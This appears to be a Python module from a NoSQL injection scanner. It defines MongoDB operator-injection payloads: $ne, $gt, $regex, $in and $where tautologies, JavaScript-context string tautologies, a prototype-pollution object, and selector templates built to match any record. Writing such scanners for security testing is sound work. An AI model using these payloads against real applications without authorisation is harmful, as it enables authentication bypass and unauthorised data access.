"""MongoDB operator injection: safe-by-default selectors, no writes."""

from typing import Tuple

from nosqlscanner.payloads.base import BodyTemplate, DbFamily, PayloadFamily


def _ne(field, val):
    return {field: {"$ne": val}}


def _regex_any(field, _val):
    return {field: {"$regex": ".*"}}


def _in_with_empty(field, val):
    return {field: {"$in": [val, ""]}}


def _gt_empty(field, _val):
    return {field: {"$gt": ""}}


def _or_tautology(field, val):
    return {"$or": [{field: val}, {field: {"$ne": val}}]}


class MongoDB(PayloadFamily):

    family = DbFamily.MONGODB

    def __init__(self):
        self.payloads = (
            # JS-context tautologies ($where / mapReduce string building)
            "' || 1==1 || '",
            '" || 1==1 || "',
            "' && this==this && '",
            '" && this==this && "',
            # operator objects for parsers that JSON-decode params
            '{"$ne": null}',
            '{"$gt": ""}',
            '{"$regex": ".*"}',
            '{"$in": [""]}',
            '{"$where": "return true"}',
            '{"__proto__":{"polluted":"yes"}}',
        )
        self.templates = (_ne, _regex_any, _in_with_empty, _gt_empty, _or_tautology)

    def get_payloads(self) -> Tuple[str, ...]:
        return self.payloads

    def get_templates(self) -> Tuple[BodyTemplate, ...]:
        return self.templates
